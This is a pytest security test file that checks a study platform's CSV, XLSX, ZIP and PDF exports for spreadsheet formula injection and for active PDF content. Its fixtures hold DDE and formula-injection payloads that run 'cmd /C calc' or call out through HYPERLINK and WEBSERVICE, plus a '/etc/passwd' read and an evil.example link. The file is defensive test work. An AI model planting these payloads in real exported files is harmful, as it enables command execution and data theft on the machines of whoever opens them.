"""An attacker's text is opened in a spreadsheet or on paper, and is to act there."""

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from pypdf import PdfReader

from reader_study.analysis.exports import EXPORT_FILES
from tests.cast import browser_of
from tests.security.planted import Planted, everything_planted

pytestmark = pytest.mark.django_db

FORMULA = re.compile(r"\s*[=+\-@＝＋－＠|]|[\t\r\n]")
FORMULA_ANYWHERE = re.compile(r"\s*[=@＝＠]")
"""What begins a formula in a cell that only a spreadsheet of another language would see."""

NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?$")
ATTACKS = {
    "hyperlink": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"see")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "another language": 'x";=WEBSERVICE("http://127.0.0.1:9")',
    "next cell": 'x",=1+1,"',
    "next line": "x\n=1+1",
    "full width": "＝1+1",
}


def cut(attack: str, most: int) -> str:
    """Return the attack, repeated nowhere, not longer than allowed."""
    return attack[:most]


@pytest.fixture(params=list(ATTACKS.values()), ids=list(ATTACKS))
def attack(request: pytest.FixtureRequest) -> str:
    text: str = request.param
    return text


@pytest.fixture
def planted(attack: str, tmp_path: Path) -> Planted:
    return everything_planted(lambda most: cut(attack, most), tmp_path)


def downloads(planted: Planted) -> dict[str, bytes]:
    """Everything that leaves a concluded study, by the end of its address."""
    browser = browser_of("carol")
    base = f"/api/studies/{planted.study.pk}"
    kinds = [f"export.{kind}" for kind in EXPORT_FILES]
    kinds += ["consensus.csv", "consensus.json", "audit.csv", "audit.json"]
    found = {}
    for kind in kinds:
        answer = browser.get(f"{base}/{kind}")
        assert answer.status_code == 200, kind
        disposition = answer.headers["Content-Disposition"]
        assert re.fullmatch(r'attachment; filename="[\w.-]+"', disposition), kind
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert "html" not in answer.headers["Content-Type"]
        found[kind] = answer.content
    return found


def acting_cells(document: str) -> list[str]:
    """Return the cells that some spreadsheet program would take for a formula."""
    found = []
    for delimiter, acts in ((",", FORMULA), (";", FORMULA_ANYWHERE), ("\t", FORMULA_ANYWHERE)):
        rows = csv.reader(io.StringIO(document, newline=""), delimiter=delimiter)
        cells = [cell.strip('"') for row in rows for cell in row]
        found += [cell for cell in cells if acts.match(cell) and not NUMBER.match(cell.strip())]
    return found


def test_no_file_that_leaves_the_study_acts_when_it_is_opened(planted, attack):
    files = downloads(planted)
    seen = 0
    with zipfile.ZipFile(io.BytesIO(files.pop("export.zip"))) as bundle:
        for name in bundle.namelist():
            assert ".." not in name
            assert not name.startswith("/")
            if name.endswith(".csv"):
                files[f"zip/{name}"] = bundle.read(name)
    for kind, content in files.items():
        if kind.endswith(".csv"):
            text = content.decode("utf-8-sig")
            assert acting_cells(text) == [], kind
            seen += attack[:8].replace("'", "") in text.replace('""', '"').replace("'", "")
    assert seen >= 4  # the attack stands in the files, made harmless
    book = openpyxl.load_workbook(io.BytesIO(files["export.xlsx"]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert not book.defined_names
    with zipfile.ZipFile(io.BytesIO(files["export.xlsx"])) as parts:
        assert not [name for name in parts.namelist() if "external" in name.lower()]


@pytest.mark.parametrize(
    "text", ['#read("/etc/passwd")', '#link("http://127.0.0.1:9")[x]', "https://evil.example/"]
)
def test_the_paper_has_nothing_that_acts(tmp_path, text):
    """An attacker's comment is markup of the program that makes the PDF, or a link."""
    planted = everything_planted(lambda most: text[:most], tmp_path)
    reader = PdfReader(io.BytesIO(downloads(planted)["export.pdf"]))
    assert "root:" not in "".join(page.extract_text() for page in reader.pages)
    raw = str([page.get_object() for page in reader.pages]) + str(reader.trailer["/Root"])
    for acting in ("/JavaScript", "/JS", "/Launch", "/URI", "/OpenAction", "/SubmitForm", "/AA"):
        assert acting not in raw, acting
